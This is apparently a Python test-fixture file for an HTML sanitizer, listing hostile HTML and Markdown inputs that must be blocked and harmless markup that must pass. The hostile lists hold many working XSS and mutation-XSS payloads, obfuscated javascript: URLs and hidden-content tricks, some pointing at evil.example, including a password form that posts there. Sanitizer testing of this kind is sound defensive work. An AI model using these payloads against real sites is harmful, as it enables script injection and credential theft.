"""HTML that must not get through, and HTML that must. Each is Markdown for the middle of a page."""

JS = "javascript:alert(1)"

SCRIPTS = [
    "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>", "<script/x>alert(1)</script>", "<scr\nipt>",
    "<<script>alert(1)//<</script>", "<script>\n<!--\nalert(1)\n//-->\n</script>", "<ScRiPt\t>x</ScRiPt >", "<script\x0c>x</script>",
    "<svg><script>alert(1)</script></svg>", "<svg><script href=data:,alert(1) /></svg>", "<svg/onload=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>", "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<svg><set attributeName=onmouseover to=alert(1)>", "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>", "<svg><title><style><img src=x onerror=alert(1)></style></title></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">", "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math><annotation-xml encoding=\"text/html\"><script>alert(1)</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<frameset onload=alert(1)>",
    "<frame src=javascript:alert(1)>", "<object data=javascript:alert(1)></object>", "<embed src=javascript:alert(1)>",
    "<applet code=x></applet>", "<portal src=https://evil.example/></portal>", "<fencedframe></fencedframe>", "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>", "<link rel=import href=x>", "<link rel=\"preload\" as=script href=x>",
    "<style>@import 'https://evil.example/x.css';</style>", "<style>body{display:none}</style>", "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<meta http-equiv=\"refresh\" content=\"0; url=data:text/html,x\">", "<META HTTP-EQUIV=Set-Cookie CONTENT=a=b>", "<meta charset=utf-7>",
    "<form action=https://evil.example/><input name=password></form>", "<button formaction=javascript:alert(1)>x</button>",
    "<input type=image src=x formaction=https://evil.example/>", "<isindex action=javascript:alert(1) type=submit>", "<keygen autofocus onfocus=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<marquee onstart=alert(1)>x</marquee>", "<image src=x onerror=alert(1)>", "<bgsound src=javascript:alert(1)>",
    "<layer src=x></layer>", "<xml id=x></xml>", "<listing>&lt;img onerror=alert(1) src=x&gt;</listing>", "<dialog open>x</dialog>",
    "<body onload=alert(1)>", "<body background=javascript:alert(1)>", "<html onclick=alert(1)>", "<head><base href=//evil.example></head>",
    "<table background=javascript:alert(1)><tr><td>x</table>", "<td background=x>", "<canvas id=x>text</canvas>", "<slot name=x>y</slot>",
    "<template><script>alert(1)</script></template>", "<div><template shadowrootmode=open><slot></slot></template>x</div>",
    "<select><option>x</option></select>", "<datalist id=d><option>x</datalist>", "<option>x", "<optgroup>x", "<output>x</output>",
    "<fieldset><legend>x</legend></fieldset>", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<font color=white>x</font>",
]

HANDLERS = [
    f"<{element} {spelling}>{'x</' + element + '>' if element not in ('img', 'source', 'br', 'hr') else ''}"
    for element in ("b", "img", "details", "a", "video", "td", "p", "br")
    for spelling in ("onclick=alert(1)", "ONERROR = 'alert(1)'", "x onload\n=\n\"alert(1)\"", "title=\"a\"onfocus=alert(1)", "/onmouseover=alert(1)")
] + [
    "<b on=x>y</b>", "<b onanythingnew=x>y</b>", "<b onclick>y</b>", "<b class=a/onclick=alert(1)>y</b>", "<b =onclick=x>y</b>",
    "<b \"onclick=alert(1)>y</b>", "<b 'onclick=alert(1)>y</b>", "<b title='>' onclick=alert(1)>y</b>", "<b title=`x` onclick=alert(1)>y</b>",
    "<b\x0conclick=alert(1)>y</b>", "<b\x0bonclick=alert(1)>y</b>", "<img/src=\"x\"/onerror=alert(1)>", "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<img \"\"\"><b onclick=alert(1)>\">x</b>", "<a onclick='x' onclick='y'>z</a>", "<b ontoggle=alert(1) popover>y</b>",
]

SCHEMES = [
    f"<{tag}={quote}{url}{quote}>x{end}"
    for tag, end in (("a href", "</a>"), ("img src", ""), ("video poster", "</video>"), ("blockquote cite", "</blockquote>"))
    for url, quote in (
        (JS, ""), ("JaVaScRiPt:alert(1)", "'"), ("&#106;avascript:alert(1)", "\""), ("j&#x61vascript:alert(1)", ""), ("&#97vascript:x", "'"),
        ("jav&#10ascript:alert(1)", "\""), ("java&Tab;script&colon;alert(1)", "\""), ("&#1;javascript:alert(1)", "\""), (" \tjavascript:x", "\""),
        ("&#x000006A;avascript:x", "\""), ("vbscript:x", ""), ("data:text/html,x", ""), ("data:image/svg+xml;base64,x", "\""), ("file:///etc/passwd", ""),
        ("blob:https://x/y", ""), ("view-source:x", ""), ("jar:javascript:x", ""), ("livescript:x", ""), ("x-javascript:x", ""), ("about:blank", ""),
    )
] + [
    "<img srcset=\"https://e.org/a.png 1x, javascript:alert(1) 2x\">", "<img srcset=\"data:text/html,x 1x\">", "<a href=\"javascript&colon;x\">y</a>",
    "<img srcset=\"https://e.org/a.png&#32;1x&#44;javascript:x 2x\">", "<source src=javascript:x>", "<video src=javascript:x></video>",
    "<track src=javascript:x>", "<audio src=data:text/html,x></audio>", "<area href=javascript:alert(1)>", "<a href=\"java\nscript:alert(1)\">y</a>",
    "<a href=\"\x01javascript:x\">y</a>", "<q cite=javascript:x>y</q>", "<del cite=javascript:x>y</del>", "[x](javascript:alert(1))", "[x](blob:x)",
    "<javascript:alert(1)>", "![x](data:text/html,y)", "[x]: javascript:alert(1)\n\n[x]", "[x](JAVASCRIPT&colon;alert(1))", "[x](<java\tscript:x>)",
]

SWALLOWERS = [
    text.replace("E", element)
    for element in ("title", "textarea", "style", "script", "xmp", "iframe", "noembed", "noframes", "noscript", "plaintext", "select", "template", "dialog")
    for text in ("<E>", "<E>\n\ntext\n\n</E>", "<E><b title=\"</E><img src=x onerror=alert(1)>\">", "<E><!-- </E> --><img src=x onerror=alert(1)>", "x <E> y", "</E>")
]

STRUCTURE = [
    "</main></article>", "</article>", "</div>", "</div></div></div>", "</body></html>", "</main>", "</section>", "</p>", "</br>", "</b>", "</table>",
    "</li></ul>", "x</p><p>y", "x </em> y", "*x </em> y*", "> x\n>\n> </blockquote>", "- x\n\n  </li>", "- x\n\n  </ul>", "<div>", "<div>\n\n<div>\n\n</div>",
    "<section>", "<b>", "<b>x", "x <i> y", "<a href=#>", "<a href=https://e.org/>x", "<a><a>x</a></a>", "<a href=https://e.org/>[x](https://e.org/)</a>",
    "<b><i>x</b></i>", "<b><p>x</b></p>", "<p><b>x</p>y</b>", "*a <b>x* y</b>", "<b>*a</b> x*", "<nobr><nobr>x</nobr></nobr>", "<h2>x<h3>y</h3></h2>", "<h2>x",
    "<table>", "<table>x</table>", "<table><tr>x</table>", "<table><b>x</b><tr><td>y</table>", "<table>\n\nMarkdown\n\n</table>", "<table><tr><td>x", "<tr><td>x</td></tr>",
    "<td>x</td>", "<caption>x</caption>", "<table><caption>x<table></table></caption></table>", "<table><colgroup>x</colgroup></table>",
    "<table><tr><td><table><tr><td></div></td></tr></table></td></tr>", "<col>", "<li>x", "<dd>x", "<dt>x", "<rt>x", "<ul><li>x", "<ul>\n<li>x\n\ny", "<dl><dt>x",
    "<rp>hidden words</rp>", "<ruby>a<rp>All of these words are hidden.</rp></ruby>", "<ruby>x", "<details>", "<details><summary>x</summary>", "<summary>x",
    "<video controls>", "<audio>x", "<figure><figcaption>x</figure>", "<picture>", "<span>", "<blockquote>\n\nx", "<center>", "<pre>", "<pre>\nx\n\ny", "<div/>", "<span/>x",
    "<b/>x", "a <div>x</div> b", "a <p>x</p> b", "a <hr> b", "a <ul><li>x</ul> b", "a <h2>x</h2> b", "a <table><tr><td>x</table> b", "<TabItem label=\"Adults\">\n\nx\n\n</TabItem>",
    "<TabItem label=\"Adults\">", "<Tabs>x</Tabs>", "<insert dose>", "<custom-element>x</custom-element>", "<blink>x</blink>", "<frame>", "<html>", "<body>", "<head>", "<article>", "<main>x</main>",
    "<!DOCTYPE html>", "x <!DOCTYPE html> y", "<![CDATA[x]]>", "x <![CDATA[<b>]]> y", "<?php echo 1 ?>", "x <? y > z ?>", "<!x>", "</ x>", "<div>\n</>\n</div>", "<![if !IE]>\nx\n<![endif]>",
    "<!-- a --!> b -->", "<!-- x --!><img src=x onerror=alert(1)> -->", "<!-- x", "<!--\n\nx", "x <!-- y", "<div title=\"", "<div title=\"\n\nx\n\n\">", "<b title='x", "<div", "<div>\n<!-- x\n\ny",
    "<div><<!-- x -->script>alert(1)</script>\n</div>", "<div>\n&lt<!-- x -->;b\n</div>", "<div>\n&<!-- x -->lt;\n</div>", "<div>\n<<!-- a --><!-- b -->img src=x onerror=alert(1)>\n</div>",
    ":::note\n</div>\n:::", ":::note\n<div>\n:::", "<div>\n\n:::note\n</div>\n\nx\n:::", "<table>\n\n:::note\n<tr><td>x</td></tr>\n:::\n\n</table>", ":::quote\n</blockquote></figure>\n:::",
    "| a |\n|---|\n| x</td> |", "| a |\n|---|\n| </table> |", "| a |\n|---|\n| <b>x |", "| a</th> |\n|---|\n| x |", "## A </h2> b", "## A <b> b", "x[^n]\n\n[^n]: </section> y", "x[^n]\n\n[^n]: <b> y",
    "<a id=\"a b\">x</a>", "<a id=\"_main\">x</a>", "<a id=\"note-1\">x</a>", "<a id=\"\">x</a>", "<p id=dup>x</p>\n\n<p id=dup>y</p>", "## Dup {#dup2}\n\n<p id=dup2>x</p>",
]

HIDING = [
    f"<{element} {attribute}>x</{element}>"
    for element in ("div", "p", "span")
    for attribute in (
        "hidden", "HIDDEN=until-found", "style=\"display:none\"", "style=\"visibility:hidden\"", "style=\"position:absolute;left:-9999px\"",
        "style='opacity:0'", "style=\"text-align:center;display:none\"", "style=\"dis\\70lay:none\"", "style=\"/**/display:none\"", "style=\"width:1px;overflow:hidden\"",
        "style=\"color:transparent\"", "style=\"font-size:0\"", "style=\"height:0\"", "style=\"Height: 1px\"", "style=\"text-indent:-9999px\"", "style=\"vertical-align:-9999px\"", "style=\"background:url(https://evil.example/)\"",
        "style=\"width:calc(1px)\"", "style=\"width:expression(alert(1))\"", "style=\"-moz-binding:url(x)\"", "inert", "popover", "contenteditable", "aria-hidden=true",
        "accesskey=x", "tabindex=-1", "slot=x", "is=x", "nonce=x", "itemprop=x", "data-guidepost-members=x", "xmlns=x", "xml:base=javascript:x", "background=x", "formaction=x",
    )
] + ["<a href=https://e.org/ ping=https://evil.example/>x</a>", "<a href=https://e.org/ target=top>x</a>", "<img name=body>", "<img lowsrc=javascript:x>", "<img dynsrc=javascript:x>", "<img longdesc=javascript:x>",
     "<a xlink:href=javascript:x>y</a>", "<video autoplay src=https://e.org/></video>", "<details name=x><summary>a</summary>b</details>", "<img src=https://e.org/ referrerpolicy=no-referrer>"]

DEEP = [
    "<div>" * 300 + "</div>" * 300, "<b>" * 500, "<b>" * 500 + "x" + "</b>" * 500, "<i><b>" * 400, "<b>\n\nx\n\n" * 60, "".join(f"<b class=c{n}>" for n in range(150)) + "<p>x" * 150,
    "<ul><li>" * 250, "<blockquote>" * 210 + "x" + "</blockquote>" * 210, "<b " + " ".join(f"data-a{n}=1" for n in range(200)) + ">x</b>", "<div title=\"</div>\">" * 260,
    "<div><!--</div>-->" * 260, "<div></b>" * 260, "<table><tr><td>" * 210, "<span>" * 199 + "<div>" * 30, "<div>\n\n" * 220 + "x", "</b>" * 3000, "<a href=#>" * 400, "<font>" * 300,
]

HOSTILE = SCRIPTS + HANDLERS + SCHEMES + SWALLOWERS + STRUCTURE + HIDING + DEEP

HARMLESS = [
    "<img src=\"https://e.org/a.png\" alt=\"\" fetchpriority=\"low\" referrerpolicy=\"origin\" crossorigin=\"anonymous\" style=\"height: auto\">", "<menu>\n<li>a</li>\n<li>b\n</menu>",
    "<acronym title=\"World Health Organization\">WHO</acronym>", "<table style=\"border-collapse: collapse; caption-side: bottom\">\n<caption>C</caption>\n<tr><td>x</table>",
    "<b>x</b>", "x <b>bold *em* `c`</b> y", "<div class=\"box\">\n\n*x* and **y**\n\n- a\n- b\n\n</div>", "<p align=\"center\">x</p>", "<p>x", "<p>x\n<p>y", "a<br>b<br/>c<br />d", "<hr>",
    "H<sub>2</sub>O and m<sup>2</sup>", "<kbd>Ctrl</kbd>+<kbd>C</kbd>", "<abbr title=\"World Health Organization\">WHO</abbr>", "<mark>x</mark> <small>y</small> <s>z</s> <u>u</u>",
    "<del datetime=\"2024-01-01\">old</del> <ins>new</ins>", "<q cite=\"https://e.org/\">x</q>", "<cite>x</cite> <dfn>y</dfn> <var>z</var> <samp>s</samp>", "<time datetime=\"2024\">2024</time>",
    "<span lang=\"fr\" dir=\"ltr\">x</span>", "<bdo dir=\"rtl\">x</bdo> <bdi>y</bdi>", "<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>", "<ruby>漢<rp>(<rt>kan<rp>)</ruby>",
    "<details>\n<summary>More</summary>\n\nText with **Markdown**.\n\n</details>", "<details open><summary>A</summary>B</details>", "<ul>\n<li>a\n<li>b\n</ul>", "<ul><li>a</li><li>b<ul><li>c</li></ul></li></ul>",
    "<ol start=\"3\" type=\"a\" reversed><li value=\"7\">x</ol>", "<dl><dt>a<dd>b<dt>c<dd>d</dl>", "<dl><div><dt>a</dt><dd>b</dd></div></dl>", "<table><tr><td>a<td>b<tr><td>c<td>d</table>",
    "<table>\n<caption>C</caption>\n<colgroup><col style=\"width:30%\"><col></colgroup>\n<thead><tr><th scope=\"col\">a</th></tr></thead>\n<tbody><tr><td rowspan=\"2\" colspan=\"2\" align=\"right\">x</td></tr></tbody>\n</table>",
    "<table>\n<tr><td>\n\nMarkdown **cell**\n\n</td></tr>\n</table>", "<table border=\"1\" cellpadding=\"4\" width=\"100%\"><tbody><tr valign=\"top\"><td nowrap>x</td></tr></tbody></table>",
    "<blockquote cite=\"https://e.org/\">\n\n> x\n\n</blockquote>", "<pre>\nx   y\n  z\n</pre>", "<pre><code class=\"language-r\">x &lt; y</code></pre>", "<figure>\n<img src=\"https://e.org/a.png\" alt=\"A\" width=\"3\" height=\"4\" loading=\"lazy\">\n<figcaption>B</figcaption>\n</figure>",
    "<picture><source srcset=\"https://e.org/a.webp 1x, https://e.org/b.webp 2x\" type=\"image/webp\"><img src=\"https://e.org/a.png\" alt=\"\"></picture>", "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"dot\">",
    "<img alt=x src=https://e.org/a.png>", "<video controls poster=\"https://e.org/p.jpg\" src=\"https://e.org/v.mp4\" width=\"320\">Your browser shows no films.</video>",
    "<video controls muted loop playsinline preload=none>\n<source src=\"https://e.org/v.mp4\" type=\"video/mp4\">\n<track kind=\"captions\" src=\"https://e.org/v.vtt\" srclang=\"en\" label=\"English\" default>\n</video>", "<audio controls src=\"https://e.org/a.mp3\"></audio>",
    "<a href=\"https://e.org/?a=1&amp;b=2#c\" target=\"_blank\" rel=\"noopener\" title=\"t\">x</a>", "<a href='mailto:a@e.org'>x</a> <a href=\"tel:+123\">y</a>", "<a href=\"//e.org/x\">y</a>", "<A HREF=\"HTTPS://E.ORG/\">x</A>",
    "<a href=\"https://e.org/a:b?javascript:c\">x</a>", "<a id=\"here\"></a>x <a href=\"#here\">y</a>", "<a name=\"there\">x</a>", "<a id=\"both\" name=\"both\">x</a> <a href=\"#both\">y</a>", "<h3 id=\"sub\">Sub</h3>", "<div id=\"box.1\" role=\"note\" aria-label=\"N\" data-kind=\"k\">x</div>",
    "<section aria-labelledby=\"s\"><h2 id=\"s\">S</h2>x</section>", "<aside>x</aside>", "<header>x</header><footer>y</footer>", "<nav><ul><li>x</ul></nav>", "<address>x</address>", "<div\nclass=\"a\"\n>\nx\n</div>", "<DIV>x</DIV>", "<b title=\"onclick\">x</b>", "<b title=\"a > b\">x</b>",
    "<span title='say \"x\"'>y</span>", "<span class=a>x</span>", "<span style=\"text-align: center; font-weight: bold\">x</span>", "<p style=\"text-align:justify;\">x</p>", "<i>a <b>b <u>c</u></b></i>", "<em><em><em><em>x</em></em></em></em>", "<b>x</b><b>y</b>" * 40,
    "<center>x</center> ", "x <big>y</big> <tt>z</tt> <strike>s</strike>", "<map name=\"m\"><area shape=\"rect\" coords=\"0,0,1,1\" href=\"https://e.org/\" alt=\"a\"></map>", "<div>\na < b & c > d &nope; &amp; &lt;script&gt;\n</div>", "super<wbr>long",
    "| a <b>x</b> | <br> |\n|---|---|\n| <sup>1</sup> | <span class=\"c\">y</span> |", "## Head <em>x</em> y", "- a <b>b</b>\n- <p>c</p>\n- <div>d</div>", "> <b>x</b>\n>\n> <div>y</div>", "x[^m]\n\n[^m]: A <b>note</b>.", ":::note\n<b>x</b>\n\n<div>\n\ny\n\n</div>\n\n:::",
    "<div>\n\n:::note\nx\n:::\n\n</div>", "<data value=\"3\">three</data>", "<div>" * 150 + "x" + "</div>" * 150, "<p>" + "<b>x</b> " * 2000, "<ul>" + "<li>x" * 2000 + "</ul>", "<hgroup>\n<h2>x</h2>\n<p>y</p>\n</hgroup>",
]
